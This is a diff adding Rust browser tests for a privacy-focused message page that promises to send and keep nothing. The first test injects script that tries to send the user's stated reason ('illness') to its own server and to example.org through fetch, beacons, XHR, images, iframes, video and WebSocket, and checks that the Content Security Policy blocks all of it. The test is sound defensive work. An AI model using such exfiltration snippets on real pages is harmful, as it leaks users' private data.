@@ -1,0 +1,69 @@
+//! "We send nothing and keep nothing." Every journey is guarded; here the page is tempted.
+
+use anyhow::{Result, ensure};
+use guide::{Band, MessageKind, Reason};
+use journeys::{Expected, Key, Setting, journey};
+
+#[test]
+fn once_loaded_the_browser_itself_refuses_every_connection() -> Result<()> {
+    let refusals = ["connect-src", "img-src", "media-src", "frame-src", "Content Security Policy"];
+    let setting = refusals.into_iter().fold(Setting::desktop()?, Setting::expecting);
+    journey(setting, |page| {
+        page.open()?;
+        page.choose(Reason::Illness)?;
+        // Not even to its own server; and the guard sees whether any of it goes out.
+        page.tamper(
+            "const way = (there) => {
+                 try { there() } catch {}
+             };
+             for (const address of ['/?said=illness', 'https://example.org/?said=illness']) {
+                 way(() => fetch(address).catch(() => {}));
+                 way(() => navigator.sendBeacon(address, 'illness'));
+                 way(() => new EventSource(address));
+                 way(() => { const one = new XMLHttpRequest(); one.open('POST', address); one.send('illness') });
+                 way(() => { new Image().src = address });
+                 way(() => document.body.append(Object.assign(document.createElement('iframe'), { src: address })));
+                 way(() => document.body.append(Object.assign(document.createElement('video'), { src: address })));
+             }
+             way(() => new WebSocket('wss://example.org/?said=illness'));",
+        )?;
+        // Time to go out, for whatever would.
+        page.when(Band::Under24h)?;
+        page.verdict_says("another time")
+    })
+}
+
+#[test]
+fn the_headers_made_for_servers_let_the_page_do_its_work() -> Result<()> {
+    let setting = Setting::desktop()?;
+    let headed = setting.clone().served_as(journeys::Site::with_its_own_headers)?;
+    journey(headed, |page| {
+        page.open()?;
+        page.choose(Reason::Illness)?;
+        page.when(Band::Under24h)?;
+        page.spoil_clipboard()?;
+        page.press("Copy email")?;
+        page.status("Copied")?;
+        // These headers let no script read the clipboard; a person can still paste.
+        let text = page.find("textbox", "Text")?;
+        page.tap(&text)?;
+        page.key(Key::SelectAll)?;
+        page.key(Key::Backspace)?;
+        ensure!(page.message()?.is_empty(), "the text cannot be deleted");
+        page.key(Key::Paste)?;
+        let expected = Expected::of(Reason::Illness, Band::Under24h);
+        ensure!(page.message()? == expected.message(MessageKind::Email)?.body, "pasted: {}", page.message()?);
+        Ok(())
+    })
+}
+
+#[test]
+fn the_page_can_be_kept_as_one_file() -> Result<()> {
+    journey(Setting::desktop()?, |page| {
+        page.open()?;
+        let link = page.find("link", "Keep this page as one file")?;
+        let goes = page.look_at(&link, "return [arguments[0].pathname, arguments[0].download !== null]")?;
+        ensure!(goes == serde_json::json!(["/rain-check.html", true]), "it goes to {goes}");
+        Ok(())
+    })
+}
